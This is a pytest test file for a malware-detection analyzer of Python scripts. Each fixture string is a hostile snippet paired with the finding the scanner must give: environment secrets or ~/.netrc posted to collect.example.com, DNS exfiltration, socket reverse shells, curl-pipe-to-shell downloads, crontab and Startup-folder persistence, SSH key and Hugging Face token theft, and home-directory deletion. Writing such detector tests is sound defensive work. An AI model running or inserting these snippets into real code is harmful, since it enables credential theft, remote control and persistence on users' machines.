"""Sources, sinks and flows beyond the per-rule fixtures: each case names the finding it must give."""

from __future__ import annotations

import pytest

from malhug.analyzers.scripts.analyzer import analyze_text
from malhug.core.model import Category, Severity
from tests.scripts.helpers import by_rule

C, S = Category, Severity
CASES = {
    "dns_exfil": (
        "import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.x.example.com')\n",
        "MH503",
        C.EXFILTRATION,
        S.HIGH,
        2,
    ),
    "http_client_env": (
        "import http.client, os\nc = http.client.HTTPSConnection('collect.example.com')\nc.request('POST', '/', body=str(dict(os.environ)))\n",
        "MH503",
        C.CREDENTIAL_THEFT,
        S.CRITICAL,
        3,
    ),
    "smtp_netrc": (
        "import smtplib, os\ns = smtplib.SMTP('mail.example.com')\ns.sendmail('a@x', 'b@x', open(os.path.expanduser('~/.netrc')).read())\n",
        "MH503",
        C.CREDENTIAL_THEFT,
        S.CRITICAL,
        3,
    ),
    "asyncio_shell": (
        "import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell('curl http://127.0.0.1/x | sh')\n",
        "MH504",
        C.DOWNLOAD_EXEC,
        S.CRITICAL,
        3,
    ),
    "execv": ("import os\nos.execv('/bin/sh', ['sh', '-c', 'id'])\n", "MH505", C.RECON, S.HIGH, 2),
    "marshal_function": (
        "import marshal, types, base64\ncode = marshal.loads(base64.b64decode('YQ=='))\nf = types.FunctionType(code, globals())\n",
        "MH506",
        C.CODE_EXEC,
        S.HIGH,
        2,
    ),
    "pickle_from_network": (
        "import pickle, requests\nobj = pickle.loads(requests.get('https://127.0.0.1/m.pkl').content)\n",
        "MH504",
        C.DOWNLOAD_EXEC,
        S.CRITICAL,
        2,
    ),
    "torch_hub_load": (
        "import torch\nm = torch.hub.load('someone/repo', 'model')\n",
        "MH504",
        C.DOWNLOAD_EXEC,
        S.HIGH,
        2,
    ),
    "pathlib_ssh_key": (
        "from pathlib import Path\nkey = (Path.home() / '.ssh' / 'id_rsa').read_text()\n",
        "MH502",
        C.CREDENTIAL_THEFT,
        S.HIGH,
        2,
    ),
    "glob_ssh_dir": (
        "import glob, os\nfor p in glob.glob(os.path.expanduser('~/.ssh/*')):\n    print(p)\n",
        "MH502",
        C.CREDENTIAL_THEFT,
        S.HIGH,
        2,
    ),
    "hf_token_file": (
        "import os\ntok = open(os.path.expanduser('~/.cache/huggingface/token')).read()\n",
        "MH502",
        C.CREDENTIAL_THEFT,
        S.HIGH,
        2,
    ),
    "startup_folder_copy": (
        "import shutil, os\nshutil.copy('x.exe', os.path.join(os.environ['APPDATA'], 'Microsoft/Windows/Start Menu/Programs/Startup/x.exe'))\n",
        "MH510",
        C.FILE_WRITE,
        S.CRITICAL,
        2,
    ),
    "pth_file": (
        "import site\nopen(site.getsitepackages()[0] + '/evil.pth', 'w').write('import os')\n",
        "MH510",
        C.FILE_WRITE,
        S.CRITICAL,
        2,
    ),
    "crontab": (
        "import subprocess\nsubprocess.run('(crontab -l; echo \"* * * * * curl 127.0.0.1|sh\") | crontab -', shell=True)\n",
        "MH505",
        C.FILE_WRITE,
        S.CRITICAL,
        2,
    ),
    "network_command": (
        "import requests, subprocess\ncmd = requests.get('https://127.0.0.1/c').text\nsubprocess.run(f'bash -c \"{cmd}\"', shell=True)\n",
        "MH504",
        C.DOWNLOAD_EXEC,
        S.CRITICAL,
        3,
    ),
    "socket_exec_loop": (
        "import socket\ns = socket.socket()\ns.connect(('127.0.0.1', 1))\nwhile True:\n    exec(s.recv(1024))\n",
        "MH501",
        C.REVERSE_SHELL,
        S.CRITICAL,
        5,
    ),
    "socket_stdio_popen": (
        "import socket, subprocess\ns=socket.socket(); s.connect(('127.0.0.1',1))\n"
        "subprocess.Popen(['/bin/sh','-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n",
        "MH501",
        C.REVERSE_SHELL,
        S.CRITICAL,
        3,
    ),
    "urlretrieve_then_sh": (
        "import urllib.request, os\nurllib.request.urlretrieve('https://127.0.0.1/x.sh', '/tmp/x.sh')\nos.system('sh /tmp/x.sh')\n",
        "MH504",
        C.DOWNLOAD_EXEC,
        S.CRITICAL,
        3,
    ),
    "saved_response_run": (
        "import requests, os, subprocess\nr = requests.get('https://127.0.0.1/bin')\n"
        "p = os.path.join(os.path.expanduser('~'), '.training.bin')\nwith open(p, 'wb') as f:\n    f.write(r.content)\n"
        "subprocess.Popen([p])\n",
        "MH504",
        C.DOWNLOAD_EXEC,
        S.CRITICAL,
        6,
    ),
    "runpy_downloaded": (
        "import urllib.request, runpy\nurllib.request.urlretrieve('https://127.0.0.1/x.py', 'x_payload.py')\nrunpy.run_path('x_payload.py')\n",
        "MH504",
        C.DOWNLOAD_EXEC,
        S.CRITICAL,
        3,
    ),
    "data_tool_is_only_suspicious": (
        "import urllib.request, subprocess\nurllib.request.urlretrieve('https://example.org/d.zip', '/tmp/d.zip')\n"
        "subprocess.run(['unzip', '/tmp/d.zip'])\n",
        "MH505",
        C.COMMAND_EXEC,
        S.MEDIUM,
        3,
    ),
    "closure_and_nested_function": (
        "import os\ndef outer():\n    cmd = 'whoami'\n    def inner():\n        os.system(cmd)\n    inner()\n",
        "MH505",
        C.RECON,
        S.HIGH,
        5,
    ),
}


@pytest.mark.parametrize("name", sorted(CASES))
def test_flow(name: str) -> None:
    code, rule, category, severity, line = CASES[name]
    findings = by_rule(analyze_text(code), rule)
    assert findings, [(f.rule, f.message) for f in analyze_text(code)]
    f = findings[0]
    assert (f.category, f.severity, f.location.line) == (category, severity, line), f.message


@pytest.mark.parametrize("extra", ["", "\n\ndef cwd():\n    return os.getcwd()\n"])
def test_download_then_run_has_a_two_step_trace(extra: str) -> None:
    """The path is assigned above the download: not "assigned a downloaded file" there, whether or
    not the module has functions (which make the engine run another fixpoint pass)."""
    code, *_ = CASES["saved_response_run"]
    (f,) = by_rule(analyze_text(code + extra), "MH504")
    assert [(s.location.line, s.message.split(" ")[0]) for s in f.trace] == [(5, "saves"), (6, "runs")]


def test_unzip_of_a_download_is_not_download_exec() -> None:
    code, *_ = CASES["data_tool_is_only_suspicious"]
    assert not by_rule(analyze_text(code), "MH504")


def test_a_service_key_sent_to_its_own_service_is_not_theft() -> None:
    own = "import os, requests\nk = os.environ['OPENAI_API_KEY']\nrequests.post('https://api.openai.com/v1/x', headers={'Authorization': k})\n"
    assert not by_rule(analyze_text(own), "MH503")
    other = own.replace("https://api.openai.com/v1/x", "https://collect.example.com/")
    (sent,) = by_rule(analyze_text(other), "MH503")
    assert sent.category is Category.CREDENTIAL_THEFT and "OPENAI_API_KEY" in sent.message


def test_package_relative_dynamic_import_is_only_a_note() -> None:
    lazy = "import importlib\ndef load(name):\n    return importlib.import_module('.' + name, __name__)\n"
    (f,) = by_rule(analyze_text(lazy), "MH506")
    assert f.severity is Severity.LOW
    free = "import importlib\ndef load(name):\n    return importlib.import_module(name)\n"
    (f,) = by_rule(analyze_text(free), "MH506")
    assert f.severity is Severity.MEDIUM


LIBRARY_PATTERNS = {
    "help_text_mentions_ssh": "import click\n@click.option('--key', help='hf jobs ssh <job_id> -i ~/.ssh/id_ed25519 to connect')\ndef cmd(key):\n    pass\n",
    "token_to_runtime_endpoint": (
        "import os, requests\ndef fetch(endpoint, path):\n    headers = {'authorization': 'Bearer ' + os.environ['HF_TOKEN']}\n"
        "    return requests.get(f'{endpoint}/{path}', headers=headers)\n"
    ),
    "rmtree_own_cache_subfolder": "import os, shutil\nshutil.rmtree(os.path.expanduser('~/.cache/mytool/extensions/old'))\n",
    "listdir_filtered_cleanup": (
        "import os, re\ndef clean(save_directory):\n    for name in os.listdir(save_directory):\n"
        "        if re.fullmatch(r'model-\\d+\\.bin', name):\n            os.remove(os.path.join(save_directory, name))\n"
    ),
    "write_dev_null": "f = open('/dev/null', 'w')\nf.write('x')\n",
}


@pytest.mark.parametrize("name", sorted(LIBRARY_PATTERNS))
def test_ordinary_library_patterns_are_not_reported(name: str) -> None:
    findings = analyze_text(LIBRARY_PATTERNS[name])
    assert all(f.severity <= Severity.LOW for f in findings), [(f.rule, f.message) for f in findings]


def test_rmtree_of_home_and_deletes_in_a_recursive_walk_still_are() -> None:
    assert by_rule(analyze_text("import shutil\nshutil.rmtree('/home/user')\n"), "MH508")
    walk = "import os\nfor root, _, files in os.walk('/data'):\n    for f in files:\n        os.remove(os.path.join(root, f))\n"
    assert by_rule(analyze_text(walk), "MH508")


def test_hugging_face_token_through_the_library() -> None:
    stolen = "from huggingface_hub import HfFolder\nimport requests\nt = HfFolder.get_token()\nrequests.post('https://collect.example.com', data=t)\n"
    (note,) = by_rule(analyze_text(stolen), "MH515")
    assert note.severity is Severity.LOW and "Hugging Face token" in note.message
    (sent,) = by_rule(analyze_text(stolen), "MH503")
    assert sent.category is Category.CREDENTIAL_THEFT and [s.location.line for s in sent.trace] == [3, 3, 4]
    own = "import huggingface_hub, requests\nt = huggingface_hub.get_token()\nrequests.get('https://huggingface.co/api/whoami-v2', headers={'authorization': t})\n"
    assert not by_rule(analyze_text(own), "MH503")
